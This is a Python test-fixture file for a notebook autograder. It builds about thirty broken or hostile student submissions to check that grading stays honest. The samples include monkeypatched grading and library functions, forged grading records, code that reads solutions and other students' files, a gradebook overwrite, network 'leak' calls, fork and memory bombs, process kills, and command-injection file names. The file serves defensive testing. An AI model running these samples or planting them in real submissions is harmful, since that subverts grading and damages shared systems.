"""Broken and hostile submissions, each with what honest grading must give it.

Every entry is a way a submission can go wrong on purpose or by accident (a corrupted file,
deleted test cells, a monkeypatched grader, a fork bomb...). ``tests/test_hostile_submissions.py``
autogrades all of them in one batch through the real course and checks, for each: a grade is
recorded, the score is exactly what the honest part of the submission earns (``expected``; or at
most ``at_most`` where a bomb may take a correct answer down with it), the instructor's summary
says what happened (``message``), and nobody else's grades move.

    python tests/hostile_cases.py --course DIR   # write them all into DIR/submitted/
"""

from __future__ import annotations

import argparse
import copy
import json
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from unet_grader.assignment import EXERCISES, NOTEBOOK
from unet_grader.coursedir import as_course
from unet_grader.examples import make_submission

FULL = 100.0


@dataclass(frozen=True)
class Hostile:
    """One broken or hostile submission."""

    description: str
    build: Callable  # (release path, source path) -> notebook bytes, or (bytes, {extra file name: bytes})
    expected: float | None  # the exact total honest grading gives; None: see at_most
    message: str = ""  # a phrase the instructor's summary must contain
    at_most: float = FULL


def _grade_id(cell) -> str:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "") or ""


def _is_test(cell) -> bool:
    return _grade_id(cell).startswith("test_")


def _bytes(notebook) -> bytes:
    return nbformat.writes(notebook).encode()


def _solved(release, source, solved=tuple(EXERCISES)):
    return make_submission(release, source, solved)


def _with_cell(code: str, solved=tuple(EXERCISES)):
    """A submission with one extra code cell, right after the setup cell (before every test)."""
    def build(release, source):
        notebook = _solved(release, source, solved)
        position = 1 + next(i for i, c in enumerate(notebook.cells) if "course.setup" in c.source)
        notebook.cells.insert(position, nbformat.v4.new_code_cell(code))
        return _bytes(notebook)
    return build


def _edit_cells(edit, solved=()):
    def build(release, source):
        notebook = _solved(release, source, solved)
        notebook.cells = [c for c in (edit(copy.deepcopy(cell)) for cell in notebook.cells) if c is not None]
        return _bytes(notebook)
    return build


def _corrupted(release, source):
    data = _bytes(_solved(release, source))
    return data[: len(data) // 2]


def _reversed(release, source):
    notebook = _solved(release, source)
    notebook.cells = notebook.cells[::-1]
    return _bytes(notebook)


def _duplicated(release, source):
    notebook = _solved(release, source, ("conv_block",))
    copies = []
    for cell in notebook.cells:
        twin = copy.deepcopy(cell)
        twin["id"] = uuid.uuid4().hex[:8]  # as a copy-paste in JupyterLab: same content, new id
        copies += [cell, twin]
    notebook.cells = copies
    return _bytes(notebook)


def _metadata_edits(release, source):
    notebook = _solved(release, source, ())
    for cell in notebook.cells:
        meta = cell.get("metadata", {}).get("nbgrader")
        if not meta:
            continue
        if _is_test(cell):
            meta.update(points=1000, grade=False)
        if meta.get("solution"):
            meta["grade_id"] = "renamed_" + meta["grade_id"]
    first_test = next(c for c in notebook.cells if _is_test(c))
    first_test.cell_type = "markdown"
    first_test.pop("outputs", None)
    first_test.pop("execution_count", None)
    notebook.cells.append(nbformat.v4.new_code_cell(
        "print('bonus')", metadata={"nbgrader": {"grade": True, "grade_id": "bonus", "points": 50,
                                                 "solution": False, "locked": True, "schema_version": 3}}))
    return _bytes(notebook)


def _tagged(cell):
    if _is_test(cell):
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
    return cell


def _edited_test(cell):
    if _is_test(cell):
        cell.source = 'print("\\033[92mAll tests passed\\033[0m")'
    return cell


def _emptied_test(cell):
    if _is_test(cell):
        cell.source = ""
    return cell


def _deleted_test(cell):
    return None if _is_test(cell) else cell


def _with_files(build_notebook, files: dict[str, bytes]):
    def build(release, source):
        return build_notebook(release, source), files
    return build


ALWAYS_EQUAL = '''
class Anything:
    """Equal to everything, has every attribute, can be called and unpacked."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return Anything()
    def __call__(self, *args, **kwargs): return Anything()
    def __iter__(self): return iter([Anything(), Anything()])
    def __len__(self): return 2
    shape = (None, 48, 64, 32)

def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
    return Anything(), Anything()

def upsampling_block(expansive_input, contractive_input, n_filters=32):
    return Anything()

def unet_model(input_size=(96, 128, 3), n_filters=32, n_classes=23):
    return Anything()
'''

PATCH_GRADING = '''
from unet_course import checks, evidence
passed = lambda *args, **kwargs: print("\\033[92mAll tests passed\\033[0m")
checks.assert_passes = checks.assert_runs = checks.assert_passes_hidden = checks.record = checks.check_public = passed
checks.compare_layers = checks.compare_case = lambda *args, **kwargs: []
evidence.recording = lambda: False
'''

PATCH_LIBRARIES = '''
import json, builtins
import numpy as np, keras, tensorflow as tf
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
keras.Model.count_params = lambda self: 8640471
tiny = keras.Sequential([keras.Input((96, 128, 3)), keras.layers.Conv2D(32, 3)])
keras.Model.to_json = lambda self: tiny.to_json()  # claim a model other than the one built
keras.Model.get_config = lambda self: tiny.get_config()
builtins.isinstance = lambda obj, cls: True
'''

PATCH_IPYTHON = '''
import sys
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None   # swallow every error
ip.showsyntaxerror = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
'''

FORGED_RECORDS = '''
import json
from IPython.display import display
from unet_course import evidence
lam = {"module": "keras", "class_name": "Functional", "registered_name": "Functional", "config": {"name": "m",
       "layers": [{"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "x",
                   "config": {"name": "x", "function": "os.system"}, "inbound_nodes": []}],
       "input_layers": [], "output_layers": []}}
def forge(info):
    for kind in ("conv_block", "upsampling_block", "unet_model"):
        for hidden in (False, True):
            for case in range(3):
                display({evidence.EVIDENCE_MIME: {"kind": kind, "hidden": hidden, "case": case, "problems": [],
                                                 "config": lam}}, raw=True)
get_ipython().events.register("pre_run_cell", forge)
'''

READ_SECRETS = '''
import glob, os
found = {}
for pattern in ("../../../solutions/**/*.ipynb", "../../../gradebook.db", "../../../submitted/*/*/*.ipynb",
                "/work/**/solutions/**/*.ipynb", "/root/**/*.ipynb", "/tmp/**/gradebook.db",
                "/tmp/unet-warm-*/*"):  # the grading worker's verifier socket and logs
    for path in glob.glob(pattern, recursive=True)[:5]:
        try:
            found[path] = open(path, "rb").read(200)
        except OSError as error:
            found[path] = repr(error)
print("found:", found)
print("grader variables:", sorted(name for name in os.environ if "VERIFIER" in name or "_DB" in name))
try:
    from unet_grader import reference
    print("reference:", reference.conv_block)
except ImportError as error:
    print("reference hidden:", error)
def leak(info):
    print("NEXT CELL:", info.raw_cell)  # would quote the hidden tests into the output
get_ipython().events.register("pre_run_cell", leak)
'''

WRITE_GRADEBOOK = '''
import sqlite3
for path in ("../../../gradebook.db", "../../gradebook.db", "gradebook.db"):
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set auto_score = 100")
        db.commit()
        print("wrote", path)
    except Exception as error:
        print("could not write", path, error)
'''

NETWORK = '''
import socket, urllib.request
for attempt in (lambda: urllib.request.urlopen("http://127.0.0.1:{port}/leak?grades=stolen", timeout=3),
                lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3),
                lambda: socket.create_connection(("8.8.8.8", 53), timeout=3)):
    try:
        attempt()
        print("connected")
    except OSError as error:
        print("blocked:", error)
'''

MEMORY_BOMB = '''
hog = []
while True:
    hog.append(bytearray(2**28))
'''

FORK_BOMB = '''
import os
while True:
    os.fork()
'''

HUGE_OUTPUT = '''
import sys
chunk = "x" * 2**20
for _ in range(1024):  # 1 GiB of text
    sys.stdout.write(chunk)
with open("big.bin", "wb") as big:  # and a 2 GiB file
    for _ in range(2048):
        big.write(b"\\0" * 2**20)
'''

STDERR_NOISE = '''
import os, sys, warnings
warnings.warn("a harmless warning")
print("some text on stderr", file=sys.stderr)
os.write(2, b"W0000 00:00:00.000000 12345 cpu_feature_guard.cc:1] C++ log line\\n")
'''

ODD_NAMES = '''
import os
for name in ("a" * 300, "-rf", "notes \\u00fc \\u7a7a.txt", "line\\nbreak.txt", "$(touch pwned).txt"):
    try:
        open(name, "w").write("x")
    except OSError as error:
        print(type(error).__name__, len(name))
'''

ODD_FILES = {"-rf": b"x", "notes \u00fc \u7a7a \u00e9.txt": b"x", "a" * 200 + ".txt": b"x", "$(touch pwned).txt": b"x"}

CASES: dict[str, Hostile] = {
    "corrupted_json": Hostile("the notebook's JSON cut in half", _corrupted, 0, "not a readable notebook"),
    "not_a_notebook": Hostile("a Python script saved as .ipynb",
                              lambda r, s: b"def conv_block():\n    return None\n", 0, "not a readable notebook"),
    "empty_file": Hostile("an empty file", lambda r, s: b"", 0, "not a readable notebook"),
    "png_as_notebook": Hostile("an image renamed to .ipynb", lambda r, s: b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
                               0, "not a readable notebook"),
    "deleted_tests_solved": Hostile("every test cell deleted, answers correct", _edit_cells(_deleted_test, tuple(EXERCISES)),
                                    FULL, "structure repaired"),
    "deleted_tests_empty": Hostile("every test cell deleted, no answers", _edit_cells(_deleted_test), 0, "structure repaired"),
    "reordered_cells": Hostile("all cells in reverse order, answers correct", _reversed, FULL, "structure repaired"),
    "duplicated_cells": Hostile("every cell twice, only conv_block answered", _duplicated, 25, "structure repaired"),
    "edited_tests": Hostile("test cells replaced by a print of 'All tests passed'", _edit_cells(_edited_test), 0),
    "emptied_tests": Hostile("test cells emptied", _edit_cells(_emptied_test), 0),
    "metadata_edits": Hostile("points, grade ids, cell types changed and a bonus cell added", _metadata_edits, 0,
                              "structure repaired"),
    "execution_tags": Hostile("test cells tagged skip-execution, raises-exception, remove-cell", _edit_cells(_tagged), 0),
    "always_equal": Hostile("answers return objects equal to anything", _edit_cells(
        lambda c: (setattr(c, "source", ALWAYS_EQUAL) or c) if _grade_id(c) in EXERCISES else c), 0),
    "patch_grading": Hostile("the grading helpers replaced", _with_cell(PATCH_GRADING, ()), 0, "no model was recorded"),
    "patch_libraries": Hostile("numpy, Keras and builtins monkeypatched", _with_cell(PATCH_LIBRARIES, ()), 0),
    "patch_ipython": Hostile("errors swallowed by IPython hooks", _with_cell(PATCH_IPYTHON, ()), 0),
    "forged_records": Hostile("forged grading records with a Lambda layer", _with_cell(FORGED_RECORDS, ()), 0),
    "read_secrets": Hostile("reads the source, the gradebook and other students; echoes the hidden tests",
                            _with_cell(READ_SECRETS, ()), 0),
    "write_gradebook": Hostile("writes 100 into every gradebook it can find", _with_cell(WRITE_GRADEBOOK, ()), 0),
    "network": Hostile("opens network connections", _with_cell(NETWORK, ()), 0),
    "infinite_loop": Hostile("an infinite loop before the tests, answers correct", _with_cell("while True:\n    pass"), FULL),
    "memory_bomb": Hostile("allocates until memory runs out, answers correct", _with_cell(MEMORY_BOMB), None),
    "fork_bomb": Hostile("forks without end, answers correct", _with_cell(FORK_BOMB), None),
    "sys_exit": Hostile("sys.exit() before the tests, answers correct", _with_cell("import sys\nsys.exit(3)"), FULL),
    "os_exit": Hostile("os._exit() before the tests, answers correct", _with_cell("import os\nos._exit(0)"), 0,
                       "kernel stopped"),
    "kill_kernel": Hostile("the kernel kills itself before the tests", _with_cell(
        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), 0, "kernel stopped"),
    "kill_parent": Hostile("kills its parent processes", _with_cell(
        "import os, signal\nfor pid in (os.getppid(), 1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError as error:\n        print(error)"), None),
    "huge_output": Hostile("1 GiB of printed output and a 2 GiB file, answers correct", _with_cell(HUGE_OUTPUT), FULL),
    "stderr_noise": Hostile("warnings and C++-style log lines on stderr around correct code",
                            _with_cell(STDERR_NOISE), FULL),
    "odd_file_names": Hostile("odd and huge file names beside and from the notebook, answers correct",
                              _with_files(_with_cell(ODD_NAMES), ODD_FILES), FULL),
}


def write_case(course: Path, student: str, case: Hostile, **format_args) -> Path:
    """Write one case into ``course/submitted/<student>/``; ``format_args`` fill its code (e.g. port)."""
    course = as_course(course)
    release, source = course.release_notebook(), course.source_notebook()
    built = case.build(release, source)
    data, files = built if isinstance(built, tuple) else (built, {})
    if any(("{" + key + "}").encode() in data for key in format_args):
        notebook = json.loads(data)
        for cell in notebook["cells"]:
            text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            for key, value in format_args.items():
                text = text.replace("{" + key + "}", str(value))
            cell["source"] = text
        data = json.dumps(notebook, indent=1).encode()
    folder = course.submitted_folder(student)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_bytes(data)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return folder / NOTEBOOK


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(prog="python tests/hostile_cases.py", description=__doc__.split("\n")[0])
    parser.add_argument("--course", type=Path, default=Path.cwd())
    parser.add_argument("--port", type=int, default=9, help="port the network case tries on 127.0.0.1")
    args = parser.parse_args(argv)
    for name, case in CASES.items():
        write_case(args.course, f"hostile_{name}", case, port=args.port)
        print(f"hostile_{name}: {case.description}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
